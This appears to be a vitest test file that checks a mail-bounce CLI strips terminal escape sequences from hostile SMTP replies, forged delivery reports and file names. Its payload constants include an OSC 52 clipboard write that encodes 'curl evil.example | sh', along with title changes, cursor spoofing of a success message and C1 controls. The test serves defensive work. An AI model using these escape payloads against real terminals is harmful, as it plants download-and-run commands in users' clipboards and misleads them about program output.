// Issue 13, item 4: terminal escapes printed raw. A hostile SMTP server (a real SMTP server on
// loopback, written raw: nodemailer's smtp-server cleans its own banner, a hostile one would not)
// puts OSC 52 clipboard writes, title changes, cursor moves and C1 controls in every reply; a
// forged delivery report puts ESC and C1 in a recipient and a diagnostic. The
// real CLI (bin/bounce-lens.js, compiled) runs against both: nothing raw may reach its output,
// and what the server and the bounce said must still be shown.
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const BIN = fileURLToPath(new URL('../../bin/bounce-lens.js', import.meta.url));
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const TITLE = '\u001b]0;you have been owned\u001b\\';
// (No bare CR: inside an SMTP reply it would end the line.)
const CURSOR = '\u001b[1A\u001b[2K\u001b[32m✓ everything fine\u001b[0m';
const C1 = '\u009b2J\u009d0;c1 title\u0007';
const HOSTILE = `${CLIPBOARD}${TITLE}${CURSOR}${C1}`;

let server: Server;
const sockets = new Set<Socket>();
let port: number;
let dir: string;

/** Speaks enough SMTP for the probe's stages, every reply carrying the escapes. */
function hostileSmtp(socket: Socket): void {
  sockets.add(socket);
  socket.on('close', () => sockets.delete(socket));
  socket.on('error', () => undefined);
  socket.write(`220-hostile-greeting ${HOSTILE}\r\n220 mx.hostile.test ESMTP\r\n`);
  let buffered = '';
  socket.on('data', (chunk: Buffer) => {
    buffered += chunk.toString('latin1');
    for (let end = buffered.indexOf('\n'); end !== -1; end = buffered.indexOf('\n')) {
      const command = buffered.slice(0, end).trim().toUpperCase();
      buffered = buffered.slice(end + 1);
      if (command.startsWith('EHLO') || command.startsWith('HELO')) socket.write(`250-mx.hostile.test ${HOSTILE}\r\n250-PIPELINING\r\n250 AUTH PLAIN LOGIN\r\n`);
      else if (command.startsWith('MAIL')) socket.write(`250 2.1.0 ok ${HOSTILE}\r\n`);
      else if (command.startsWith('RCPT')) socket.write(`550 5.7.1 hostile-refusal ${HOSTILE}\r\n`);
      else if (command.startsWith('QUIT')) socket.end(`221 2.0.0 bye ${HOSTILE}\r\n`);
      else socket.write(`250 2.0.0 ${HOSTILE}\r\n`);
    }
  });
}

beforeAll(async () => {
  server = createServer(hostileSmtp);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  port = (server.address() as AddressInfo).port;
  dir = mkdtempSync(join(tmpdir(), 'bl-escapes-'));
});
afterAll(async () => {
  for (const s of sockets) s.destroy();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  rmSync(dir, { recursive: true, force: true });
});

/** What a terminal would act on: ESC and C0 except tab/newline, DEL, C1 (as UTF-8 or raw bytes). */
function rawControls(out: Buffer): string[] {
  const found: string[] = [];
  for (let i = 0; i < out.length; i++) {
    const b = out[i] ?? 0;
    if ((b < 0x20 && b !== 0x0a && b !== 0x09) || b === 0x7f) found.push(`0x${b.toString(16)} at ${i}`);
    if (b === 0xc2 && (out[i + 1] ?? 0) >= 0x80 && (out[i + 1] ?? 0) <= 0x9f) found.push(`U+00${(out[i + 1] ?? 0).toString(16)} at ${i}`);
  }
  return found;
}

function run(args: string[], input?: string): Promise<{ code: number | null; stdout: Buffer; stderr: Buffer }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [BIN, ...args], { env: { PATH: process.env.PATH, LANG: 'en_US.UTF-8' } });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (d: Buffer) => out.push(d));
    child.stderr.on('data', (d: Buffer) => err.push(d));
    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(out), stderr: Buffer.concat(err) }));
    child.stdin.end(input ?? '');
  });
}

describe('a hostile SMTP server cannot drive the terminal through `probe`', () => {
  it.each([[[] as string[]], [['--json']]])('probe %j prints its replies without escapes', async (extra) => {
    const r = await run(['probe', '127.0.0.1', '--port', String(port), '--ports', String(port), '--security', 'none', '--allow-private', '--timeout', '3000', ...extra]);
    expect(r.code).toBe(0);
    expect(rawControls(r.stdout)).toEqual([]);
    expect(rawControls(r.stderr)).toEqual([]);
    const text = r.stdout.toString('utf8');
    // The replies were printed (greeting and refusal), just defused.
    expect(text).toContain('hostile-greeting');
    expect(text).toContain('hostile-refusal');
    if (extra.includes('--json')) {
      // JSON keeps the data: parsed back, the greeting has the server's bytes.
      const stages = text.trim().split('\n').map((l) => JSON.parse(l) as { stage?: string; reply?: string[] });
      expect(stages.find((s) => s.stage === 'greeting')?.reply?.join('\n')).toContain(CLIPBOARD);
    }
  });
});

describe('a forged bounce cannot drive the terminal through `explain`', () => {
  // A delivery report (RFC 3464) whose Final-Recipient and Diagnostic-Code carry the escapes.
  const bounce = [
    'From: Mail Delivery System <MAILER-DAEMON@mx.sender.example>',
    'To: user@sender.example',
    'Subject: Delivery Status Notification (Failure)',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Delivery failed.',
    '--b',
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; mx.sender.example',
    '',
    `Final-Recipient: rfc822; victim${C1}${CLIPBOARD}@remote.example`,
    'Action: failed',
    'Status: 5.1.1',
    `Diagnostic-Code: smtp; 550 5.1.1 user unknown ${HOSTILE}`,
    '--b--',
    '',
  ].join('\n');

  it.each(['text', 'jsonl', 'csv'])('--format %s prints the recipient without escapes', async (format) => {
    const file = join(dir, `forged-${format}.eml`);
    writeFileSync(file, bounce);
    const r = await run(['explain', '--format', format, file, file]);
    expect(r.code).toBe(0);
    expect(rawControls(r.stdout)).toEqual([]);
    expect(rawControls(r.stderr)).toEqual([]);
    const text = r.stdout.toString('utf8');
    expect(text).toContain('remote.example');
    if (format === 'jsonl') {
      const parsed = JSON.parse(text.split('\n')[0] ?? '') as { findings: { recipient: string | null; diagnostic: string | null }[] };
      // JSON keeps the data: parsed back, the control characters are there, escaped on the wire.
      expect(JSON.stringify(parsed.findings)).toMatch(/\\u00(1b|9b|9d)/);
    }
  });

  it('file names with escapes are cleaned in error messages too', async () => {
    const r = await run(['explain', join(dir, `missing${CLIPBOARD}.eml`)]);
    expect(r.code).toBe(2);
    expect(rawControls(r.stderr)).toEqual([]);
    expect(r.stderr.toString('utf8')).toContain('missing');
  });
});

describe('the check itself', () => {
  it('sees the escapes when they are there (cat of the forged bounce)', () => {
    const file = join(dir, 'raw.txt');
    writeFileSync(file, HOSTILE);
    expect(rawControls(spawnSync('cat', [file]).stdout).length).toBeGreaterThan(5);
  });
});
